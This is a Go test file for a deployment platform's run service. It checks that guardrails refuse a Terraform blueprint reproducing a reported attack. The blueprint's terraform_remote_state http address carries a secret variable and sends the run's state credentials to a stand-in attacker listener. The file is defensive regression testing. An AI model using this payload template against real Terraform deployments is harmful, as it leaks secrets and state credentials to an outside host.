package runs

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/cloudoven/cloudoven/deployment"
	"github.com/cloudoven/cloudoven/internal/testenv"
	"github.com/cloudoven/cloudoven/runner"
	"github.com/cloudoven/cloudoven/secrets"
	"github.com/cloudoven/cloudoven/state"
	"github.com/cloudoven/cloudoven/store"
)

// exfiltrationDoc is the blueprint of the report, pointed at %s: a terraform_remote_state
// data source whose http backend address carries the secret variable pw. Terraform reads it
// during the plan, sending the address and the run's state credentials (TF_HTTP_USERNAME and
// TF_HTTP_PASSWORD, which the http backend takes from the environment) to that host.
const exfiltrationDoc = `{"format": 1, "name": "leak",
  "variables": [{"name": "pw", "type": "string", "sensitive": true}],
  "data": [{"type": "terraform_remote_state", "name": "leak", "config": {
    "backend": {"literal": "http"},
    "config": {"expr": "{ address = \"%s/?pw=${nonsensitive(var.pw)}\" }"}}}],
  "resources": [{"type": "terraform_data", "name": "web", "config": {"input": {"literal": "hello"}}}]}`

// listener records every request it gets, as the author's host in the report did.
type listener struct {
	*httptest.Server
	mu       sync.Mutex
	requests []string
}

func newListener(t *testing.T) *listener {
	l := &listener{}
	l.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		l.mu.Lock()
		l.requests = append(l.requests, fmt.Sprintf("%s %s (Authorization: %q)", r.Method, r.URL, r.Header.Get("Authorization")))
		l.mu.Unlock()
		http.NotFound(w, r)
	}))
	t.Cleanup(l.Close)
	return l
}

func (l *listener) received() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]string(nil), l.requests...)
}

// TestPlanRefusesTheExfiltrationBlueprint runs the report's blueprint on the real Docker
// Engine with CloudOven's state backend, the environment's secret in the vault and a
// listener standing in for the author's host, on an environment whose findings do not
// block. Plan refuses it, and so does the plan stage of a service that does not check
// first; the listener hears nothing either way.
func TestPlanRefusesTheExfiltrationBlueprint(t *testing.T) {
	testenv.RunnerImage(t)
	ctx := context.Background()
	st, err := store.Open(ctx, filepath.Join(t.TempDir(), "cloudoven.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	key := make([]byte, 32)
	if _, err := rand.Read(key); err != nil {
		t.Fatal(err)
	}
	box, err := secrets.NewBox(key)
	if err != nil {
		t.Fatal(err)
	}
	vault := secrets.NewVault(st, box)
	l := newListener(t)
	if _, err := st.CreateProject(ctx, "team", ""); err != nil {
		t.Fatal(err)
	}
	if _, _, err := st.CreateBlueprint(ctx, "team", "leak", "", fmt.Appendf(nil, exfiltrationDoc, l.URL), ""); err != nil {
		t.Fatal(err)
	}
	deployments := map[string]int64{}
	for _, env := range []string{"dev", "qa"} {
		if _, err := st.CreateEnvironment(ctx, "team", env, fmt.Appendf(nil, `{"format": 1, "name": %q, "backend": {"type": "http"}}`, env)); err != nil {
			t.Fatal(err)
		}
		if err := vault.Set(ctx, "team", env, "TF_VAR_pw", secret); err != nil {
			t.Fatal(err)
		}
		d, err := st.CreateDeployment(ctx, "team", "leak", 1, env, "")
		if err != nil {
			t.Fatal(err)
		}
		deployments[env] = d.ID
	}

	authz := state.NewTokenAuthorizer(0)
	stateSrv := httptest.NewServer(state.NewServer(st, state.NewDirStore(t.TempDir()), authz, nil))
	t.Cleanup(stateSrv.Close)
	b := make([]byte, 6)
	if _, err := rand.Read(b); err != nil {
		t.Fatal(err)
	}
	exec, err := runner.NewDocker(runner.DockerOptions{Instance: "test-" + hex.EncodeToString(b)})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		exec.RemoveOrphans(context.Background(), nil)
		exec.Close()
	})
	service := func(t *testing.T, checkFirst bool) *Service {
		opts := Options{
			Store: st, Executor: exec, Hub: NewHub(st, nil),
			Prepare:     NewPreparer(st, embeddedCatalog, vault),
			Sealer:      newSealer(t),
			NetworkMode: "host", // the container reaches the state backend and the listener on loopback
			Authorizer:  authz, StateURL: stateSrv.URL,
		}
		if checkFirst {
			opts.Guardrails = deployment.NewResolver(deployment.Config{Store: st, Rules: st, Catalog: embeddedCatalog})
		}
		svc := New(opts)
		runCtx, cancel := context.WithCancel(ctx)
		t.Cleanup(func() { cancel(); svc.Wait() })
		if err := svc.Start(runCtx); err != nil {
			t.Fatal(err)
		}
		return svc
	}
	// finish waits for a run that should not have started to end, so that the failure
	// shows what it sent.
	finish := func(t *testing.T, id string) store.Run {
		deadline := time.Now().Add(3 * time.Minute)
		for {
			r, err := st.Run(ctx, id)
			if err != nil {
				t.Fatal(err)
			}
			if r.State.Done() || r.State == store.RunPlanned || time.Now().After(deadline) {
				return r
			}
			time.Sleep(100 * time.Millisecond)
		}
	}

	t.Run("Plan refuses it", func(t *testing.T) {
		svc := service(t, true)
		for _, destroy := range []bool{false, true} {
			r, err := svc.Plan(ctx, "team", deployments["dev"], "olivia", destroy)
			var blocked *deployment.BlockedError
			if !errors.As(err, &blocked) {
				if err == nil {
					r = finish(t, r.ID)
					t.Errorf("destroy %v: the run was queued and ended %s (%q); want a *deployment.BlockedError", destroy, r.State, r.Error)
				} else {
					t.Errorf("destroy %v: %v, want a *deployment.BlockedError", destroy, err)
				}
				continue
			}
			if msg := err.Error(); !strings.Contains(msg, "own-remote-state on data.terraform_remote_state.leak") {
				t.Errorf("destroy %v: refused with %q", destroy, msg)
			}
		}
		if rs, _ := st.DeploymentRuns(ctx, deployments["dev"], 0); len(rs) != 0 {
			t.Errorf("the refused plans left %d runs", len(rs))
		}
	})

	t.Run("the plan stage refuses it", func(t *testing.T) {
		svc := service(t, false)
		r, err := svc.Plan(ctx, "team", deployments["qa"], "olivia", false)
		if err != nil {
			t.Fatal(err)
		}
		r = finish(t, r.ID)
		if r.State != store.RunErrored || !strings.HasPrefix(r.Error, "the plan was refused:") || !strings.Contains(r.Error, "own-remote-state") {
			t.Errorf("the run ended %s with %q, want errored: the plan was refused", r.State, r.Error)
		}
	})

	if got := l.received(); len(got) > 0 {
		t.Errorf("the listener received %d requests:\n%s", len(got), strings.Join(got, "\n"))
	}
}

// TestServicePlansRemoteStateOfTheProject: terraform_remote_state of one of the project's
// deployments at the service's state URL is what own-remote-state lets through, at Plan and
// at the plan stage alike (the preparer is given the same URL).
func TestServicePlansRemoteStateOfTheProject(t *testing.T) {
	t.Parallel()
	loadFixtures(t)
	ctx := t.Context()
	st, err := store.Open(ctx, filepath.Join(t.TempDir(), "cloudoven.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	if _, err := st.CreateProject(ctx, "team", ""); err != nil {
		t.Fatal(err)
	}
	const stateURL = "http://cloudoven.test:8080"
	if _, _, err := st.CreateBlueprint(ctx, "team", "app", "", []byte(guardedDoc), ""); err != nil {
		t.Fatal(err)
	}
	if _, err := st.CreateEnvironment(ctx, "team", "dev", []byte(`{"format": 1, "name": "dev", "backend": {"type": "http"}}`)); err != nil {
		t.Fatal(err)
	}
	app, err := st.CreateDeployment(ctx, "team", "app", 1, "dev", "")
	if err != nil {
		t.Fatal(err)
	}
	reader := `{"format": 1, "name": "reader",
  "data": [{"type": "terraform_remote_state", "name": "app", "config": {"backend": {"literal": "http"},
    "config": {"literal": {"address": "` + state.Address(stateURL, "team", app.ID) + `"}}}}],
  "resources": [{"type": "terraform_data", "name": "web", "config": {"input": {"literal": "hello"}}}]}`
	if _, _, err := st.CreateBlueprint(ctx, "team", "reader", "", []byte(reader), ""); err != nil {
		t.Fatal(err)
	}
	d, err := st.CreateDeployment(ctx, "team", "reader", 1, "dev", "")
	if err != nil {
		t.Fatal(err)
	}
	f := &fixture{store: st, exec: newFakeExecutor(false), hub: NewHub(st, nil)}
	f.svc = New(Options{Sealer: newSealer(t), Store: st, Executor: f.exec, Hub: f.hub, StateURL: stateURL,
		Prepare:    NewPreparerWith(st, embeddedCatalog, nil, PreparerOptions{StateURL: stateURL}),
		Guardrails: deployment.NewResolver(deployment.Config{Store: st, Rules: st, Providers: st, Catalog: embeddedCatalog, StateURL: stateURL})})
	sctx, cancel := context.WithCancel(context.Background())
	t.Cleanup(func() { cancel(); f.svc.Wait() })
	if err := f.svc.Start(sctx); err != nil {
		t.Fatal(err)
	}
	r, err := f.svc.Plan(ctx, "team", d.ID, "olivia", false)
	if err != nil {
		t.Fatal(err)
	}
	f.waitState(t, r.ID, store.RunPlanned)
}
